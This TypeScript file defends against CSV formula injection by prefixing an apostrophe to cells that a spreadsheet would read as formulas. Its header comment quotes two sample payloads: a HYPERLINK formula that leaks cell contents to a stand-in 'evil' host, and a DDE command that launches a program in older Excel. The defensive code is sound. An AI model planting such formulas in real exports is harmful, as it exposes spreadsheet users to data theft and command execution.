// A `.csv` an `--eval` wrote holds page text, and a spreadsheet opens it: a cell that starts with
// `=`, `+`, `-` or `@` is a formula there (`=HYPERLINK("http://evil/?"&A1,"Open")`, which sends
// the sheet's other cells away when clicked; DDE `=cmd|' /C calc'!A0` in older Excel). Each such
// cell gets a leading `'`, as OWASP's CSV-injection advice has it, so the spreadsheet shows the
// text instead of running it. A plain number (`-244.34`, `+3`) is left as it is.
//
// Cells are found as a spreadsheet may split the file: at commas, semicolons (the separator of
// locales whose decimal mark is a comma) and tabs outside double quotes, and at line ends; a
// quoted cell's text is what follows its opening quote.

/** What starts a formula: the four signs, and the tab and carriage return a cell may lead with
 * before one. */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(?:\d[\d,]*)?(?:\.\d+)?(?:[eE][+-]?\d+)?%?$/;

function isFormula(cell: string): boolean {
  return FORMULA_START.test(cell) && !(/\d/.test(cell) && PLAIN_NUMBER.test(cell.trim()));
}

/** `text` with a `'` put before every cell that would start a formula. */
export function withoutCsvFormulas(text: string): string {
  let out = '';
  let quoted = false;
  let atCellStart = true;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (atCellStart) {
      atCellStart = false;
      if (c === '"') {
        // The cell's text starts after its quote.
        out += c;
        quoted = true;
        if (isFormula(cellAt(text, i + 1, true))) out += "'";
        continue;
      }
      if (isFormula(cellAt(text, i, false))) out += "'";
    }
    out += c;
    if (quoted) {
      if (c === '"') {
        if (text[i + 1] === '"') out += text[++i];
        else quoted = false;
      }
    } else if (c === ',' || c === ';' || c === '\t' || c === '\n') {
      atCellStart = true;
    } else if (c === '\r' && text[i + 1] !== '\n') {
      atCellStart = true;
    }
  }
  return out;
}

/** The cell that starts at `i` (its text up to its end), to test whether it is a formula. */
function cellAt(text: string, i: number, quoted: boolean): string {
  let j = i;
  if (quoted) {
    while (j < text.length && !(text[j] === '"' && text[j + 1] !== '"')) j += text[j] === '"' ? 2 : 1;
  } else {
    while (j < text.length && !/[,;\t\n]/.test(text[j])) j++;
  }
  return text.slice(i, j);
}
